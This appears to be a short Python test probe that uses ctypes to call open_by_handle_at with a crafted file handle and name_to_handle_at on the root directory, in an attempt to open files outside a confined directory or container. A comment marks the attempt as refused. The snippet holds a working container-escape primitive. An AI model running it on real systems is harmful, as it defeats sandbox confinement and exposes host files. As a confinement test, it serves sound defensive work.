"""Goal: open files by handle, past every folder"""
# held: refused

import ctypes

libc = ctypes.CDLL(None)

def attack():
    handle = ctypes.create_string_buffer(b'\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0', 136)
    mount = ctypes.c_int()
    return libc.open_by_handle_at(-100, handle, 0) >= 0 or libc.name_to_handle_at(-100, b'/', handle, ctypes.byref(mount), 0) >= 0
